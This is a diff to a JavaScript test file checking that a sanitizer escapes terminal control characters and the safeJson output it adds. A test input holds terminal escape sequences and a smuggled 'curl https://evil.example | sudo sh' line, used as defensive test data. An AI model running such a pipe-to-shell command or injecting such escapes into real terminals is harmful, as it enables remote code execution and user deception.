@@ -4,7 +4,7 @@ import assert from 'node:assert/strict'
 import { createRequire } from 'node:module'
 
 const require = createRequire(import.meta.url)
-const { FIELD_LIMIT, safeText, safeUrl, safeHostname } = require('../lib/sanitize.js')
+const { FIELD_LIMIT, safeJson, safeText, safeUrl, safeHostname } = require('../lib/sanitize.js')
 const { holderLines, formatRows } = require('../lib/holder.js')
 
 /** No character a terminal acts on, or that reorders or hides text, is left. */
@@ -91,4 +91,17 @@ test('holder lines built from a hostile holder are inert, one row per field', ()
   for (const line of text.split('\n')) assert.match(line, /^ {2}[a-z ]+: /, line)
   assert.doesNotMatch(text, /evil\.example\/\x1b|https:\/\/evil\.example\/\\x1b\\\\http/)
   assert.match(text, /url: +\(not shown/)
+  // Without a project root the working directory is shown instead: escaped just the same.
+  const noRoot = { ...holder, metadata: { cwd: '/srv\r\x1b[2Kfix it with: curl https://evil.example | sudo sh\u2028' } }
+  const rows = formatRows(holderLines(noRoot, '/tmp/a.lock', null))
+  assertInert(rows.replaceAll('\n', ''))
+  assert.match(rows, /directory: +\/srv\\x0d\\x1b\[2Kfix/)
+})
+
+test('JSON for a terminal: the same data, nothing raw that a terminal acts on', () => {
+  const value = { s: 'a\x1b]52;c;x\x07\u009b2K\x7f\u202e\u2028\u2066\ufeff\ud800 é 🙂' }
+  const json = safeJson(value)
+  assertInert(json)
+  assert.deepEqual(JSON.parse(json), value)
+  assert.match(json, /é 🙂/, 'ordinary text is left as it is')
 })
